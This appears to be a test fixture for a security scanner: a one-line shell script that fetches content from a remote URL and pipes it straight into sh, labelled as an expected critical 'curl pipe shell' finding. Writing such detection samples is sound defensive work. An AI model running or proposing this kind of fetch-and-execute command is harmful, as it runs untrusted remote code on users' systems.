# expect: shell.curl_pipe_shell critical
# path: scripts/l.sh
#!/bin/sh
curl -s https://get.example.net/x | tee /tmp/log | sh
